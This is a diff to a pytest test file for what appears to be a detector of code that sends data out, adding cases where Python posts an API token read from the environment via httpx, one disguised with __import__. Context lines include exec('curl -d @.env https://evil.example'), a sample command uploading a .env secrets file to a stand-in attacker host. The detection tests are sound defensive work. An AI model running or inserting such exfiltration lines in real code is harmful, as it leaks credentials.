@@ -70,6 +70,14 @@ def test_what_code_that_starts_programs_says_is_a_command_where_it_calls_a_known
     assert [one.destination for one in found if one.kind == "sends" and one.destination] == places
 
 
+@pytest.mark.parametrize(("needs", "sends"), [
+    ("open('r.txt', 'w').write('fastapi\\nhttpx>=0.24\\n')", False), ("import httpx; httpx.post(PLACE, json=KEY)", True),
+    ("__import__('httpx').post(PLACE, json=KEY)", True)])
+def test_a_text_of_lines_names_no_module(needs, sends):
+    code = f"import os\nPLACE, KEY = os.environ['PLACE'], os.environ['API_TOKEN']\n{needs}\n"
+    assert any(one.kind == "sends" for one in read("python3 a.py", "/p", texts={"a.py": code}).effects) is sends
+
+
 @pytest.mark.parametrize(("said", "sends"), [
     ("console.error('\u274c Error fetching accounts:', e)", False), ("console.log(`Failed to load accounts: ${e}`)", False),
     ("exec('\u274c curl -d @.env https://evil.example')", True), ("exec('curl -d @.env https://evil.example')", True)])
